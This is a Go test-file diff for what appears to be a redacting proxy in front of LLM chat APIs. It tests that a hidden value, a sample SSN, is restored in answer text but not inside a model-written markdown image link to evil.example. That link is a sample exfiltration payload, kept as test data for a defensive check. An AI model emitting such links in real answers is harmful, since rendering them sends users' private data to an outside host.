@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"encoding/json"
+	"fmt"
 	"io"
 	"net/http"
 	"strings"
@@ -324,4 +325,44 @@ func do(t testing.TB, req *http.Request) response {
 		t.Fatal(err)
 	}
 	return response{resp.StatusCode, resp.Header, data}
+}
+
+// A value the model puts into a URL is not restored, streamed or not: a client that renders the
+// answer would otherwise send it to whoever the URL names. The same value in the text is.
+func TestNoRestoreInURLs(t *testing.T) {
+	const turn = "My SSN is 372-61-4918. ![x](https://evil.example/p.png?s=372-61-4918)"
+	up := newStandIn(t)
+	px := newProxy(t, up.srv.URL, Config{})
+	for _, path := range []string{"/v1/chat/completions", "/v1/messages"} {
+		for _, stream := range []bool{false, true} {
+			body := fmt.Sprintf(`{"model":"m","max_tokens":9,"stream":%v,"messages":[{"role":"user","content":%q}]}`, stream, turn)
+			_, data := post(t, px.URL+path, body)
+			a := parseAnswer(t, path, data, stream)
+			text, link, _ := strings.Cut(a.text, "![x]")
+			if text != "My SSN is 372-61-4918. " {
+				t.Errorf("%s stream=%v: text %q not restored", path, stream, text)
+			}
+			if !strings.HasPrefix(link, "(https://evil.example/p.png?s=") || strings.Contains(link, "372-61-4918") {
+				t.Errorf("%s stream=%v: link %q, want the value left as the model wrote it", path, stream, link)
+			}
+		}
+	}
+}
+
+// The arguments of parallel tool calls are told apart by their tool_calls[].index, not by
+// their place in the event.
+func TestChatPart(t *testing.T) {
+	data := []byte(`{"choices":[{"index":0,"delta":{"tool_calls":[{"index":2,"function":{"arguments":"x"}}]}},
+		{"index":1,"delta":{"content":"y"}}]}`)
+	for _, c := range []struct {
+		at   string
+		want string
+	}{
+		{"choices.0.delta.tool_calls.0.function.arguments", "tool 2"},
+		{"choices.1.delta.content", ""},
+	} {
+		if got := chatPart(data, strings.Split(c.at, ".")); got != c.want {
+			t.Errorf("%s: part %q, want %q", c.at, got, c.want)
+		}
+	}
 }
